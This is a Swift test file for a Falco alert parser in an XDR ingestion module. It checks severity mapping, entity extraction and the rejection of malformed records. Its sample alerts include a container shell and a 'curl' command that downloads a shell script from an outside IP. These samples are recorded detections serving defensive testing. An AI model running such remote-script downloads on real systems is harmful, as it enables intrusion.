import Foundation
import Testing
@testable import XDRIngest
import XDRModel

@Suite struct FalcoTests {
    let format = Falco()

    /// Falco JSON output: a shell in a container, an outbound connection, a Kubernetes audit alert.
    static let alerts = """
    {"uuid":"4a6c1d2e-7b8f-4c3d-9e0a-1b2c3d4e5f60","output":"2024-05-03T10:00:01.123456789+0000: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=www-data user_uid=33 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash -il terminal=34816 exe_flags=EXE_WRITABLE container_id=3ad7f2c1b9e0 container_image=ghcr.io/acme/payments-api container_image_tag=1.4.2 container_name=api k8s_ns=payments k8s_pod_name=api-7d9f8-x2k4q)","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container","maturity_stable","mitre_execution","shell","T1059"],"time":"2024-05-03T10:00:01.123456789Z","output_fields":{"container.id":"3ad7f2c1b9e0","container.image.repository":"ghcr.io/acme/payments-api","container.image.tag":"1.4.2","container.name":"api","evt.arg.flags":"EXE_WRITABLE","evt.time":1714730401123456789,"evt.type":"execve","k8s.ns.name":"payments","k8s.pod.name":"api-7d9f8-x2k4q","proc.cmdline":"bash -il","proc.exepath":"/usr/bin/bash","proc.name":"bash","proc.pid":48211,"proc.pname":"runc","proc.tty":34816,"user.loginuid":-1,"user.name":"www-data","user.uid":33},"hostname":"ip-10-0-1-25.ec2.internal"}
    {"output":"2024-05-03T10:01:12.000000001+0000: Critical Disallowed outbound connection destination (command=curl -s http://203.0.113.66:8080/x.sh connection=10.244.1.17:51544->203.0.113.66:8080 user=root container_id=3ad7f2c1b9e0)","priority":"Critical","rule":"Unexpected outbound connection destination","source":"syscall","tags":["network","TA0011"],"time":"2024-05-03T10:01:12.000000001Z","output_fields":{"container.id":"3ad7f2c1b9e0","evt.type":"connect","fd.l4proto":"tcp","fd.lip":"10.244.1.17","fd.lport":51544,"fd.rip":"203.0.113.66","fd.rport":8080,"fd.name":"10.244.1.17:51544->203.0.113.66:8080","proc.cmdline":"curl -s http://203.0.113.66:8080/x.sh","proc.name":"curl","proc.pid":48390,"user.name":"root","k8s.ns.name":"<NA>","k8s.pod.name":"<NA>"},"hostname":"ip-10-0-1-25.ec2.internal"}
    {"output":"10:02:10.000001000: Notice Attach/Exec to pod (user=system:serviceaccount:ci:deployer pod=api-7d9f8-x2k4q resource=pods ns=payments action=exec command=sh)","priority":"Notice","rule":"Attach/Exec Pod","source":"k8s_audit","tags":["k8s","mitre_execution"],"time":"2024-05-03T10:02:10.000001000Z","output_fields":{"ka.target.name":"api-7d9f8-x2k4q","ka.target.namespace":"payments","ka.target.resource":"pods","ka.target.subresource":"exec","ka.uri.param[command]":"sh","ka.user.name":"system:serviceaccount:ci:deployer","ka.verb":"create"},"hostname":"falco-k8saudit-0"}
    """

    @Test func normalisesAShellInAContainer() throws {
        let run = FormatHarness.run(format, Self.alerts)
        #expect(run.rejected.isEmpty)
        try #require(run.accepted.count == 3)
        let shell = run.accepted[0]
        #expect(shell.time == 1_714_730_401_123_456)
        #expect(shell.classUID == OCSFClass.detectionFinding)
        #expect(shell.kind == .detection)
        #expect(shell.severity == .low)
        #expect(shell.sourceEventID == "4a6c1d2e-7b8f-4c3d-9e0a-1b2c3d4e5f60")
        #expect(shell.title == "Terminal shell in container")
        #expect(shell.ruleID == "Terminal shell in container")
        #expect(shell.attackTechniques == ["T1059"])
        #expect(shell.attackTactics == ["execution"])
        #expect(shell.processImage == "/usr/bin/bash")
        #expect(shell.processCommandLine == "bash -il")
        #expect(shell.processPID == 48211)
        #expect(shell.parentProcessImage == "runc")
        #expect(shell.hostname == "ip-10-0-1-25.ec2.internal")
        #expect(shell.entityKeys == ["host:ip-10-0-1-25", "user:www-data", "k8s_namespace:payments", "k8s_pod:payments/api-7d9f8-x2k4q"])
        #expect(shell.details["container.image.name"] == .string("ghcr.io/acme/payments-api:1.4.2"))
    }

    @Test func readsAnOutboundConnectionAndSkipsRoot() throws {
        let run = FormatHarness.run(format, Self.alerts)
        let connect = try #require(run.accepted.dropFirst().first)
        #expect(connect.severity == .critical)
        #expect(connect.sourceEventID == nil)
        #expect(connect.attackTactics == ["command_and_control"])
        #expect(connect.attackTechniques.isEmpty)
        #expect(connect.srcIP == "10.244.1.17")
        #expect(connect.srcPort == 51544)
        #expect(connect.dstIP == "203.0.113.66")
        #expect(connect.dstPort == 8080)
        #expect(connect.networkProtocol == "tcp")
        #expect(connect.k8sNamespace == nil)
        #expect(connect.entityKeys == ["host:ip-10-0-1-25", "ip:10.244.1.17", "ip:203.0.113.66"])
    }

    @Test func readsKubernetesAuditAlerts() throws {
        let run = FormatHarness.run(format, Self.alerts)
        let exec = try #require(run.accepted.last)
        #expect(exec.time == 1_714_730_530_000_001)
        #expect(exec.apiOperation == "create")
        #expect(exec.entityKeys == ["host:falco-k8saudit-0", "k8s_namespace:ci", "k8s_sa:ci/deployer",
                                    "k8s_namespace:payments", "k8s_pod:payments/api-7d9f8-x2k4q"])
    }

    @Test func mapsPrioritiesToSeverities() {
        #expect(Falco.severity("Emergency") == .critical)
        #expect(Falco.severity("Alert") == .critical)
        #expect(Falco.severity("Critical") == .critical)
        #expect(Falco.severity("Error") == .high)
        #expect(Falco.severity("Warning") == .medium)
        #expect(Falco.severity("Notice") == .low)
        #expect(Falco.severity("Informational") == .informational)
        #expect(Falco.severity("Debug") == .informational)
        #expect(Falco.severity("Urgent") == nil)
    }

    @Test func rejectsRecordsNamingTheField() {
        let body = """
        {"priority":"Warning","time":"2024-05-03T10:00:01Z","output":"x"}
        {"rule":"r","priority":"Urgent","time":"2024-05-03T10:00:01Z","output":"x"}
        {"rule":"r","priority":"Warning","time":"1714730401","output":"x"}
        {"rule":"r","priority":"Warning","time":"2024-05-03T10:00:01Z","output":"x","output_fields":"proc.name=bash"}
        """
        let run = FormatHarness.run(format, body)
        #expect(run.accepted.isEmpty)
        #expect(run.rejected.map { $0.error.description } == [
            "field \"rule\": missing",
            "field \"priority\": Falco priority \"Urgent\" is not one of Emergency, Alert, Critical, Error, Warning, Notice, Informational, Debug",
            "field \"time\": not a date: \"1714730401\"",
            "field \"output_fields\": expected an object, got a string",
        ])
    }

    /// Every real Falco sample must be accepted. Without `XDR_SHARED_DIR` and without the sample
    /// folder beside the checkout, there is nothing to read and the test returns.
    @Test func acceptsEveryRealSample() throws {
        guard Samples.directory != nil else {
            if ProcessInfo.processInfo.environment["XDR_SHARED_DIR"] == nil { return }
            Issue.record("../shared/samples not found")
            return
        }
        let files = Samples.files(in: "cloud/falco_alerts_json")
        #expect(!files.isEmpty)
        for file in files {
            let run = try FormatHarness.run(format, file: file)
            print("samples falco \(file.lastPathComponent): \(run.accepted.count) accepted, \(run.rejected.count) rejected")
            #expect(run.rejected.isEmpty, "\(file.lastPathComponent): \(run.rejected.prefix(3).map { "\($0.number): \($0.error)" })")
            #expect(!run.accepted.isEmpty)
            #expect(run.accepted.allSatisfy { $0.kind == .detection && $0.hostname == "test-falco-hostname" })
        }
    }
}
